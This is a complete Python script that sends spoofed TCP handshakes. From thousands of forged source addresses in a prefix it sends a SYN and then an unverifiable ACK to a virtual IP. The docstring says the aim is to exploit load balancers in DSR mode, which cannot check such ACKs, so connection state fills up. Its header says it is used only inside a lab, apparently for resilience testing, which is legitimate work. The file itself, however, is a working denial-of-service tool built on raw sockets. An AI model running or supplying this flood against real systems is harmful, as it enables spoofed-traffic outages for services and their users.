#!/usr/bin/python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""Spoofed TCP handshakes: from each of N addresses of a prefix, a SYN to
VIP:PORT and then the ACK that would follow it (the SYN's sequence number
plus one, any acknowledgment number).

    handshake_flood.py VIP PORT --prefix 10.99.0.0/16 --count 4000

What a host of the segment can send to a node that balances in DSR mode:
the backend's SYN-ACK never passes that node, so an ACK that claims to
answer it cannot be checked there. Nothing answers these (the addresses
are nobody's). Used only inside the lab's namespaces.
"""
import argparse
import ipaddress
import random
import socket
import struct

from rawpkt import csum, ipv4_header


def segment(src, dst, sport, dport, seq, ack, flags):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags,
                      64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    return ipv4_header(src, dst, socket.IPPROTO_TCP, len(tcp), ttl=64) + tcp


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("vip")
    ap.add_argument("port", type=int)
    ap.add_argument("--prefix", default="10.99.0.0/16")
    ap.add_argument("--count", type=int, default=4000)
    args = ap.parse_args()

    net = ipaddress.ip_network(args.prefix)
    if args.count > net.num_addresses - 2:
        ap.error(f"{args.prefix} has fewer than {args.count} addresses")
    dst = socket.inet_aton(args.vip)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(args.count):
        src = (net.network_address + 1 + i).packed
        sport = random.randint(1024, 65535)
        seq = random.getrandbits(32)
        ack = random.getrandbits(32)
        s.sendto(segment(src, dst, sport, args.port, seq, 0, 0x02), (args.vip, 0))
        s.sendto(segment(src, dst, sport, args.port, (seq + 1) & 0xFFFFFFFF, ack, 0x10),
                 (args.vip, 0))
    print(f"{args.count} handshakes sent")


if __name__ == "__main__":
    main()
